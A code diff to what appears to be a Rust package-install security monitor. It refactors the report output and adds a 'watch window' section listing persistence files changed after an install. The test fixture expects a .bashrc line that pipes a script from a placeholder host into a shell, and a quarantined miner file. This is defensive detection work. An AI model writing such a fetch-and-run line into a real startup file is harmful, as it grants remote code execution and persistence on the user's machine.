@@ -550,28 +550,7 @@ pub fn show(r: &Report, color: bool) -> String {
         list(&r.env.removed),
         list(&r.env.kept)
     );
-    let snapshot = r
-        .snapshot
-        .iter()
-        .flat_map(|c| {
-            let head = clean(&format!("{:?} {}", c.kind, c.path).to_lowercase());
-            let head = format!(
-                "{head}{}",
-                clean(
-                    &c.after
-                        .as_ref()
-                        .and_then(|a| a.sha256.as_deref())
-                        .map(|h| format!(" sha256 {}", short_id(h)))
-                        .unwrap_or_default(),
-                )
-            );
-            std::iter::once(head).chain(
-                c.added_lines
-                    .iter()
-                    .map(|(n, l)| clean(&format!("  + {n}: {}", shorten(l, 120)))),
-            )
-        })
-        .collect();
+    let snapshot = change_lines(&r.snapshot);
     section(
         &mut out,
         "persistence locations changed",
@@ -599,7 +578,47 @@ pub fn show(r: &Report, color: bool) -> String {
             .collect();
         section(&mut out, "quarantine", r.quarantine.len(), lines, color);
     }
+    if let Some(w) = &r.watch {
+        let state = if w.ended { "closed at" } else { "open until" };
+        let title = format!(
+            "watch window ({} s, {state} {}): changed after the install",
+            w.window_s,
+            clean(&w.until)
+        );
+        section(
+            &mut out,
+            &title,
+            w.changes.len(),
+            change_lines(&w.changes),
+            color,
+        );
+    }
     out
+}
+
+/// A changed persistence file and its added lines.
+fn change_lines(changes: &[crate::monitor::snapshot::Change]) -> Vec<String> {
+    changes
+        .iter()
+        .flat_map(|c| {
+            let head = clean(&format!("{:?} {}", c.kind, c.path).to_lowercase());
+            let head = format!(
+                "{head}{}",
+                clean(
+                    &c.after
+                        .as_ref()
+                        .and_then(|a| a.sha256.as_deref())
+                        .map(|h| format!(" sha256 {}", short_id(h)))
+                        .unwrap_or_default(),
+                )
+            );
+            std::iter::once(head).chain(
+                c.added_lines
+                    .iter()
+                    .map(|(n, l)| clean(&format!("  + {n}: {}", shorten(l, 120)))),
+            )
+        })
+        .collect()
 }
 
 #[cfg(test)]
@@ -711,6 +730,7 @@ mod tests {
             "modified /home/alice/.bashrc",
             "+ 12: curl -s http://x.test/a | sh",
             "/tmp/.x/miner.js → /home/alice/.local/state/pkgwarden/quarantine/1",
+            "watch window (300 s, closed at 2026-11-27T10:05:00Z): changed after the install (0)",
         ] {
             assert!(s.contains(want), "missing {want:?} in\n{s}");
         }
